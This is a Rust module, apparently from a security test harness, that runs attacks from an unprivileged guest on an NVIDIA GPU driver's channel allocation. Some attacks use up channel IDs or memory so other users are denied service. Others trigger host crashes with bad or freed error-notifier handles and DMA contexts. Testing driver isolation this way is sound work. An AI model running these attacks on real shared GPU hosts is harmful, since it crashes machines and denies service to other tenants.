// SPDX-License-Identifier: GPL-2.0
//! Channels: ids of which a GPU has 2,044, and memory that no object shows.

use super::{
    attack::{attack, Attack, Driver, Sign},
    scene::{told, Attacker, LIMIT, MIB, OWN},
};
use crate::{
    bytes::put_u32,
    guest::{rm, tools::Verdict, uvm},
};

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "all groups of channels taken",
        "kernel_fifo.c:kfifoChidMgrAllocChannelGroupHwID_IMPL",
        Driver::Passes,
        Sign::Told,
        all_groups,
    ),
    attack(
        "all channels taken",
        "kernel_fifo.c:kfifoChidMgrAllocChid_IMPL",
        Driver::Passes,
        Sign::Told,
        all_channels,
    ),
    attack(
        "memory of channels beyond the limit",
        "kernel_channel.c:kchannelConstruct_IMPL",
        Driver::Passes,
        Sign::Told,
        memory_of_channels,
    ),
    attack(
        "host crash: hObjectError of a channel is no memory",
        "kernel_channel.c:kchannelConstruct_IMPL",
        Driver::Passes,
        Sign::Gpu,
        |attacker| errors_go_to(attacker, 0),
    ),
    attack(
        "host crash: hObjectEccError of a channel is no memory",
        "kernel_channel.c:kchannelConstruct_IMPL",
        Driver::Passes,
        Sign::Gpu,
        |attacker| errors_go_to(attacker, 140),
    ),
    attack(
        "host crash: hObjectError of a group is no memory",
        "kernel_channel.c:kchannelConstruct_IMPL",
        Driver::Passes,
        Sign::Gpu,
        errors_of_group,
    ),
    attack(
        "host crash: memory for a channel's errors is freed",
        "kernel_channel.c:kchannelUpdateNotifierMem_IMPL",
        Driver::Passes,
        Sign::Told,
        |attacker| errors_to_freed(attacker, false),
    ),
    attack(
        "contexts of UVM beyond the limit (UVM_REGISTER_CHANNEL)",
        "uvm_channel_retainer.c:uvmchanrtnrConstruct_IMPL",
        Driver::Passes,
        Sign::Told,
        memory_of_contexts,
    ),
];

/// Those with a context for DMA, which an instance gets with a capability alone.
pub(super) const GRANTED: &[Attack] = &[
    attack(
        "host crash: hObjectError of a channel lost its memory",
        "kernel_channel.c:kchannelConstruct_IMPL",
        Driver::Passes,
        Sign::Gpu,
        errors_to_gone_context,
    ),
    attack(
        "host crash: a context for a channel's errors is freed",
        "kernel_channel.c:kchannelUpdateNotifierMem_IMPL",
        Driver::Passes,
        Sign::Told,
        |attacker| errors_to_freed(attacker, true),
    ),
];

/// As many as nobody else could then start a program with.
const NEARLY_ALL: u32 = 2000;
/// More than there are.
const MORE: u32 = 2100;
/// Engines: compute, and one that copies.
const COMPUTE: u32 = 1;
const COPIES: u32 = 11;
/// UVM_REGISTER_CHANNEL.
const REGISTER_CHANNEL: u32 = 27;

fn group(attacker: &Attacker, handle: u32, engine: u32) -> Verdict {
    told(attacker.client.channel_group(handle, engine))
}

fn channel(attacker: &Attacker, group: u32, handle: u32) -> Verdict {
    told(attacker.client.channel(group, handle))
}

/// A channel that names a subdevice, which is no memory, at this place of its parameters.
fn errors_go_to(attacker: &Attacker, at: usize) -> Verdict {
    attacker.group_on(OWN, COPIES)?;
    let mut params = attacker.prepare("a channel's ring", attacker.client.channel_params())?;
    put_u32(&mut params, at, rm::SUBDEVICE_HANDLE);
    attacker.alloc(OWN, OWN + 1, rm::CHANNEL, &mut params)
}

/// A context for DMA, which goes with its memory, is named by a channel.
fn errors_to_gone_context(attacker: &Attacker) -> Verdict {
    let client = &attacker.client;
    attacker.memory(OWN + 2, MIB)?;
    let made = client.context_dma(OWN + 2, OWN + 3);
    attacker.prepare("a context for DMA", made)?;
    attacker.prepare("the memory's end", client.free(OWN + 2))?;
    attacker.group_on(OWN, COPIES)?;
    let mut params = attacker.prepare("a channel's ring", attacker.client.channel_params())?;
    put_u32(&mut params, 0, OWN + 3);
    attacker.alloc(OWN, OWN + 1, rm::CHANNEL, &mut params)
}

/// Memory is freed in which the driver and the firmware note a channel's errors. (They go on
/// writing there; to show that would end the machine.)
fn errors_to_freed(attacker: &Attacker, by_context: bool) -> Verdict {
    let client = &attacker.client;
    let (memory, context) = (OWN + 2, OWN + 3);
    attacker.memory(memory, MIB)?;
    if by_context {
        let made = client.context_dma(memory, context);
        attacker.prepare("a context for DMA", made)?;
    }
    attacker.group_on(OWN, COPIES)?;
    let mut params = attacker.prepare("a channel's ring", client.channel_params())?;
    put_u32(&mut params, 0, if by_context { context } else { memory });
    let made = attacker.alloc(OWN, OWN + 1, rm::CHANNEL, &mut params);
    attacker.prepare("a channel", made)?;
    told(client.free(memory))
}

/// A channel in a group that names one.
fn errors_of_group(attacker: &Attacker) -> Verdict {
    let mut params = [0; 20];
    put_u32(&mut params, 0, rm::SUBDEVICE_HANDLE);
    put_u32(&mut params, 12, COPIES);
    attacker.alloc(rm::DEVICE_HANDLE, OWN, rm::CHANNEL_GROUP, &mut params)?;
    channel(attacker, OWN, OWN + 1)
}

/// Whether so many of `what` are as good as all.
fn nearly_all(count: u32, what: &str, end: &str) -> Verdict {
    if count >= NEARLY_ALL {
        Ok(())
    } else {
        Err(format!("{end} after {count} {what}"))
    }
}

fn all_groups(attacker: &Attacker) -> Verdict {
    for count in 0..MORE {
        if let Err(end) = group(attacker, OWN + count, COPIES) {
            return nearly_all(count, "groups", &end);
        }
    }
    Err("there is no end of them".to_owned())
}

fn all_channels(attacker: &Attacker) -> Verdict {
    let mut of = OWN;
    for count in 0..MORE {
        let handle = OWN + 2 * count;
        if count % 100 == 0 {
            of = handle + 1;
            group(attacker, of, COPIES)?;
        }
        if let Err(end) = channel(attacker, of, handle) {
            return nearly_all(count, "channels", &end);
        }
    }
    Err("there is no end of them".to_owned())
}

/// Takes memory until so much of the limit is left.
fn fill(attacker: &Attacker, left: u64) -> Verdict {
    attacker.memory(OWN, LIMIT - left)
}

fn memory_of_channels(attacker: &Attacker) -> Verdict {
    fill(attacker, 2 * MIB)?;
    for count in 0..100 {
        let handle = OWN + 1 + 2 * count;
        let made =
            group(attacker, handle, COPIES).and_then(|()| channel(attacker, handle, handle + 1));
        made.map_err(|end| format!("{end} after {count} channels"))?;
    }
    Ok(())
}

fn memory_of_contexts(attacker: &Attacker) -> Verdict {
    const VASPACE: u32 = OWN + 1;
    fill(attacker, 64 * MIB)?;
    let mut space = [0; 56];
    // NV_VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED and SHARED_MANAGEMENT, as CUDA has it.
    put_u32(&mut space, 4, 0x48);
    attacker.space(VASPACE, &mut space)?;
    let uvm = attacker.prepare("a UVM file", uvm::Space::open(&attacker.folder))?;
    let uuid = attacker.victim.gpus.uuid;
    let registered = uvm.register(&uuid, attacker.client.handle, VASPACE);
    attacker.prepare("the address space in UVM", registered)?;
    for count in 0..100 {
        let handle = OWN + 2 + 2 * count;
        let kept = keep_context(attacker, &uvm, handle);
        kept.map_err(|end| format!("{end} after {count} contexts"))?;
    }
    Ok(())
}

/// Makes a context, has UVM keep its channel, and frees it.
fn keep_context(attacker: &Attacker, uvm: &uvm::Space, handle: u32) -> Verdict {
    group(attacker, handle, COMPUTE)?;
    channel(attacker, handle, handle + 1)?;
    let mut params = [0; 56];
    params[..16].copy_from_slice(&attacker.victim.gpus.uuid);
    put_u32(&mut params, 20, attacker.client.handle);
    put_u32(&mut params, 24, handle + 1);
    told(uvm.call(REGISTER_CHANNEL, &mut params, 48))?;
    told(rm::free(
        attacker.client.ctl,
        attacker.client.handle,
        handle,
    ))
}
